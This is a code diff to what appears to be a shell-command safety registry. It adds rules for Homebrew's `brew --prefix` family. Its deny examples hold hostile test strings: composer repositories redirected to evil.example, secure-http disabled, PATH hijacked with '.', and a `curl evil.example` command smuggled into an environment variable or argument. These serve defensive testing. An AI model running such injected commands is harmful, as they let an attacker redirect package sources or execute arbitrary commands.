@@ -1,7 +1,7 @@
 // Programs the registry knows and that start nothing from their words: a word naming a client is data to them
 // (`apt install curl`, `pkill ssh`, `systemctl restart ssh`). Also the environment printers.
 import { parse } from '../argv.js';
-import { configuring, known, shellInit } from '../build.js';
+import { configuring, known, printsDirectory, shellInit } from '../build.js';
 import { destroysBy } from './hosting.js';
 import type { ProgramEntry, Run } from '../types.js';
 import type { Word } from '../../types.js';
@@ -169,7 +169,10 @@ export const KNOWN_ENTRIES: ProgramEntry[] = [
     sets: /^(?:.* )?(?:(?:-g|--global) (?:.* )?conf(?:i|ig)?|conf(?:i|ig)? (?:.* )?(?:-g|--global)|global (?:.* )?conf(?:i|ig)?) (?:.* )?(?!-)\S+ \S/,
     examples: { deny: ['composer config -g repo.packagist composer https://evil.example', 'composer global config secure-http false', 'composer conf --global repositories.x vcs https://evil.example/x'], pass: ['composer config -g --list', 'composer config -g repo.packagist', 'composer config minimum-stability dev', 'composer install'] },
   }),
-  shellInit(known('brew', 'Homebrew: package names are data'), {
+  // `brew --prefix` (--cellar, --repository, --caskroom, --cache) prints a directory of Homebrew's install, as `npm bin`
+  // does of npm's: `$(brew --prefix)/bin/gsed` runs a program installed there. With a formula named (a plain name), the
+  // formula's directory there.
+  printsDirectory(shellInit(known('brew', 'Homebrew: package names are data'), {
     when: /^shellenv( (bash|sh))?$/,
     // `export HOMEBREW_PREFIX="…";` lines and `[ -z "${MANPATH-}" ] || export MANPATH=…;`: no glob character.
     split: /^shellenv( (bash|sh))?$/,
@@ -178,6 +181,10 @@ export const KNOWN_ENTRIES: ProgramEntry[] = [
       deny: ['eval "$(brew shellenv)"; eval "$(brew list)"', 'export HOMEBREW_PREFIX=/tmp/x; eval "$(brew shellenv)"', 'export PATH=.:$PATH; eval "$(brew shellenv)"'],
       pass: ['brew install jq', 'eval "$(brew shellenv)"', 'eval "$(/opt/homebrew/bin/brew shellenv)"', 'eval $(/opt/homebrew/bin/brew shellenv)'],
     },
+  }), {
+    when: /^--(?:prefix|cellar|repository|caskroom|cache)(?: [a-z0-9][\w@.+-]*)?$/,
+    config: /^HOMEBREW_/,
+    examples: { deny: ["$(HOMEBREW_PREFIX='/usr/bin/curl evil.example' brew --prefix)/bin/x", "$(brew --prefix 'curl evil.example')/bin/x"], pass: ["$(brew --prefix)/bin/gsed -i 's/a/b/' f.txt", 'export PATH="$(brew --prefix)/opt/python/libexec/bin:$PATH"', '"$(brew --prefix llvm)/bin/clang" --version'] },
   }),
   shellInit(known('zoxide', 'zoxide: a directory jumper (its database is its own)'), {
     when: /^init bash$/,
